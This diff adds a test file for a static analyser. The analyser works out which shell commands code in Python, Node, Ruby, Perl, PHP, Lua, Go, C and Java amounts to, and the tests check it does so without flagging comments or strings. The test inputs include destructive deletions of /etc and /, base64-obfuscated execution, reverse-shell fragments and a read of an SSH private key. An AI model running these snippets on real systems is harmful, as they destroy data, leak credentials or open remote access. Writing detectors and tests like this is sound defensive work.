@@ -1,0 +1,207 @@
+// Tests which commands code of other languages amounts to, and that only calls count.
+import { expect, test } from 'bun:test';
+import fc from 'fast-check';
+import { HOLE } from '../base/words.ts';
+import { readShell } from '../index.ts';
+import { LEXES, type TokenLanguage } from './lexis.ts';
+import { callsOf } from './statements.ts';
+import { tokenize } from './tokenize.ts';
+
+const world = { cwd: '/home/me/project', home: '/home/me', projectRoot: '/home/me/project', tmp: ['/tmp'] };
+
+const PROGRAMS: Partial<Record<TokenLanguage, string>> = {
+  python: 'python3',
+  node: 'node',
+  ruby: 'ruby',
+  perl: 'perl',
+  php: 'php',
+  lua: 'lua',
+};
+
+/** The commands that a snippet amounts to. */
+function commandsOf(language: TokenLanguage, code: string): string[] {
+  const { commands } = readShell(`${PROGRAMS[language]} <<'END_OF_CODE'\n${code}\nEND_OF_CODE`, world);
+  return commands.slice(1).map(({ words }) => words.map((w) => w.text.replaceAll(HOLE, '…')).join(' '));
+}
+
+const amounts: [TokenLanguage, string, string][] = [
+  ['python', "import os as o; o.system('ls /a')", 'ls /a'],
+  ['python', "from subprocess import run as r\nr(['ls', '-l'])", 'ls -l'],
+  ['python', "getattr(__import__('o' + 's'), 'sys' + 'tem')('ls /a')", 'ls /a'],
+  [
+    'python',
+    "import shutil, os\nshutil.rmtree(os.path.join(os.path.expanduser('~'), 'x'))",
+    'rm -r /home/me/x',
+  ],
+  [
+    'python',
+    "from pathlib import Path\np = Path.home() / 'a'\np /= 'b'\n(p / 'c').unlink()",
+    'rm /home/me/a/b/c',
+  ],
+  ['python', "d = '/etc'\nshutil.rmtree(f'{d}/x')", 'rm -r /etc/x'],
+  ['python', "def wipe(path, *, force=False):\n    shutil.rmtree(path)\nwipe('/etc')", 'rm -r /etc'],
+  ['python', "for d in ['/etc', '/usr']:\n    os.rmdir(d)", 'rm /usr'],
+  ['python', "[os.remove(f) for f in glob.glob('/etc/*')]", 'rm /etc/*'],
+  ['python', "with open('/etc/x', 'w') as f: f.write('y')", 'tee /etc/x'],
+  ['python', "subprocess.run('ls %s' % '/a', shell=True)", 'ls /a'],
+  ['python', "subprocess.run('ls {}'.format('/a'), shell=True)", 'ls /a'],
+  ['python', "os.system(' '.join(['ls', '/a']))", 'ls /a'],
+  ['python', "subprocess.run(['bash'], input='ls /a')", 'ls /a'],
+  ['python', 'exec("import os; os.system(\'ls /a\')")', 'ls /a'],
+  ['python', "exec(__import__('base64').b64decode('b3Muc3lzdGVtKCdscyAvYScp'))", 'ls /a'],
+  ['python', "os.execvp('ls', ['ls', '/a'])", 'ls /a'],
+  ['node', "require('child_process').execSync('ls /a')", 'ls /a'],
+  ['node', "import { execSync as e } from 'node:child_process'; e(`ls \u0024{'/a'}`)", 'ls /a'],
+  ['node', "const { spawn: s } = require('child_process'); s('ls', ['-l', '/a'])", 'ls -l /a'],
+  ['node', "const fs = await import('fs/promises'); await fs.rm('/a', { recursive: true })", 'rm -r /a'],
+  ['node', "const f = require('fs'); f['rm' + 'Sync'](process.env.HOME + '/a')", 'rm -r /home/me/a'],
+  ['node', "const run = (c: string): void => { execSync(c) }; run('ls /a')", 'ls /a'],
+  ['node', "readdirSync('/etc').forEach((f) => fs.unlinkSync(f))", 'rm /etc/*'],
+  ['node', "import { $ } from 'zx'; await $`ls /a`", 'ls /a'],
+  ['node', "if (x) /re'/.test(y); execSync('ls /a')", 'ls /a'],
+  ['node', "a = b / c; execSync('ls /a'); d = e / f", 'ls /a'],
+  ['node', "new Function(\"require('fs').rmSync('/a')\")()", 'rm -r /a'],
+  ['ruby', 'x = "/a"\nsystem "ls #{x}"', 'ls /a'],
+  ['ruby', '`ls /a`; %x(ls /b)', 'ls /b'],
+  ['ruby', '%w[/etc /usr].each { |d| FileUtils.rm_rf(d) }', 'rm -r /usr'],
+  ['ruby', "IO.popen(['ls', '/a'])", 'ls /a'],
+  ['ruby', "Kernel.exec('ls /a')", 'ls /a'],
+  ['perl', 'my $d = "/a"; system("ls", $d);', 'ls /a'],
+  ['perl', 'unlink "$ENV{HOME}/a" or die', 'rm /home/me/a'],
+  ['perl', 'open(my $f, ">", "/etc/x"); my @l = qx{ls /a};', 'ls /a'],
+  ['perl', 'for my $d (qw(/etc /usr)) { rmtree($d) }', 'rm -r /usr'],
+  ['php', "<p>it's</p><?php shell_exec('ls ' . '/a'); ?>", 'ls /a'],
+  ['php', '$d = \'/a\'; unlink("$d/b");', 'rm /a/b'],
+  ['php', 'pcntl_exec("/bin/sh", ["-c", "ls /a"]);', 'ls /a'],
+  ['node', "new Deno.Command('sh', { args: ['-c', 'ls /a'] }).outputSync()", 'ls /a'],
+  ['lua', "os.execute('ls ' .. '/a')", 'ls /a'],
+];
+
+for (const [language, code, command] of amounts)
+  test(`${language}: ${code.replaceAll('\n', '⏎')} runs ${command}`, () => {
+    expect(commandsOf(language, code)).toContain(command);
+  });
+
+/** Sources of compiled languages, the command that runs them, and what they amount to. */
+const written: [string, string, string, string][] = [
+  ['a.go', 'go run a.go', 'syscall.Exec("/bin/sh", []string{"sh", "-c", "ls /a"}, nil)', 'ls /a'],
+  ['a.go', 'go run a.go', 'args := []string{"-l", "/a"}\nexec.Command("ls", args).Run()', 'ls -l /a'],
+  ['a.go', 'go run a.go', 'os.OpenFile("/a", os.O_RDWR|os.O_CREATE, 0644)', 'tee /a'],
+  ['a.go', 'go run a.go', 'c, _ := net.Dial("tcp", "h:1"); exec.Command("sh").Run()', '(reverse-shell)'],
+  ['a.c', 'gcc a.c', 'char *argv[] = {"sh", "-c", "ls /a", 0}; execv("/bin/sh", argv);', 'ls /a'],
+  ['a.c', 'gcc a.c', 'connect(s, 0, 0); dup2(s, 0); execve("/bin/sh", 0, 0);', '(reverse-shell)'],
+  ['A.java', 'java A.java', 'Runtime.getRuntime().exec(new String[]{"ls", "/a"});', 'ls /a'],
+];
+
+for (const [file, command, code, expected] of written)
+  test(`${file}: ${code.replaceAll('\n', '⏎')} runs ${expected}`, () => {
+    const { commands } = readShell(`cat > ${file} <<'END'\n${code}\nEND\n${command}`, world);
+    expect(commands.map(({ words }) => words.map((w) => w.text).join(' '))).toContain(expected);
+  });
+
+test('a file that the same command writes may not read secrets, one on disk may read its settings', () => {
+  const code = "print(open('/home/me/.ssh/id_rsa').read())";
+  const reads = (source: string, readFile?: () => string) =>
+    readShell(source, { ...world, ...(readFile && { readFile }) }).commands.some(
+      ({ name }) => name === 'cat',
+    );
+  expect(reads(`echo "${code}" > a.py; python3 a.py`)).toBe(true);
+  expect(reads('python3 a.py', () => code)).toBe(false);
+});
+
+test('lines after an interpreter that is started alone are read as its code', () => {
+  const named = (source: string) => readShell(source, world).commands.map(({ name }) => name);
+  expect(named("python3\nimport os\nos.system('rm -rf /a')")).toContain('rm');
+  expect(named('less notes.txt\n!rm -rf /a')).toContain('rm');
+  expect(named(':!rm -rf /a')).toContain('rm');
+});
+
+const harmless: [TokenLanguage, string][] = [
+  ['python', "import re\np = re.compile('x')\nprint('https://a')"],
+  [
+    'python',
+    '"""Removes files: shutil.rmtree(\'/\') and os.system("rm -rf /")."""\nprint("os.system(\'rm -rf /\')")',
+  ],
+  ['python', "# os.system('rm -rf /')\ntext = '''\nos.system('rm -rf /')\n'''"],
+  ['python', "class Shell:\n    def system(self, command): pass\nShell().run('rm -rf /')"],
+  ['python', "logger.info('rm -rf / %s', x)"],
+  ['node', "/a/.exec('rm -rf /'); fetch('https://a')"],
+  ['node', "const { spawn } = require('child_process'); const help = `usage: rm -rf / \u0024{name}`"],
+  ['node', "// execSync('rm -rf /')\n/* fs.rmSync('/') */ const s = \"execSync('rm -rf /')\""],
+  ['node', "class A { exec(command) { this.x = command } }\ndb.run('rm -rf /')"],
+  ['node', "const eval2 = 'same-origin / relative path'"],
+  ['ruby', "# system('rm -rf /')\nputs \"system('rm -rf /')\"\n=begin\n`rm -rf /`\n=end\nx =~ /`rm -rf \\//"],
+  ['perl', "=pod\n\nsystem('rm -rf /')\n\n=cut\nprint q{system('rm -rf /')}; s/`rm -rf //g;"],
+  ['php', "<?php // shell_exec('rm -rf /')\n/* unlink('/') */ echo \"unlink('/')\"; ?> `rm -rf /`"],
+];
+
+for (const [language, code] of harmless)
+  test(`${language}: nothing runs in ${code.replaceAll('\n', '⏎')}`, () => {
+    expect(commandsOf(language, code).filter((command) => /^(?:rm|\(|psql)/.test(command))).toEqual([]);
+  });
+
+const languages = Object.keys(LEXES) as TokenLanguage[];
+
+const scraps = [
+  ...`' " \` ''' """ f" \\ \n # // /* */ / ( ) [ ] { } \${ #{ { } => -> :: . , ; : = += | % $x @x %w( q{ s/ <<EOF EOF <<< <?php ?> =pod =cut __END__`.split(
+    ' ',
+  ),
+  ...'import from as def function class for in of if else lambda x os.system system exec rm -rf /etc 1 0o7'.split(
+    ' ',
+  ),
+];
+
+test('tokens and calls are found in any soup of scraps, without an error and without an end', () => {
+  fc.assert(
+    fc.property(
+      fc.constantFrom(...languages),
+      fc.array(fc.constantFrom(...scraps), { maxLength: 60 }),
+      (language, parts) => {
+        callsOf(tokenize(parts.join(' '), language), language);
+        callsOf(tokenize(parts.join(''), language), language);
+      },
+    ),
+    { numRuns: 400 },
+  );
+}, 60_000);
+
+test('a sed program with many groups is read at once', () => {
+  const groups = String.raw`\(..\)`.repeat(40);
+  const { notes } = readShell(`sed 's@^${groups}$@x@'`, world);
+  expect(notes).toEqual([]);
+});
+
+const nested = [
+  '(',
+  '[',
+  '{',
+  'f(',
+  'x=>',
+  'a?',
+  '`\u0024{',
+  'f"{',
+  'a.',
+  "'a'+",
+  'q(',
+  'lambda ',
+  'for x in ',
+  'import {',
+];
+
+test('code that nests or repeats without end is read in bounded time', () => {
+  for (const language of languages)
+    for (const part of nested) callsOf(tokenize(part.repeat(2_000), language), language);
+}, 60_000);
+
+test('tokens are found in any text', () => {
+  fc.assert(
+    fc.property(
+      fc.constantFrom(...languages),
+      fc.string({ unit: 'binary', maxLength: 200 }),
+      (language, source) => {
+        callsOf(tokenize(source, language), language);
+      },
+    ),
+    { numRuns: 400 },
+  );
+}, 60_000);
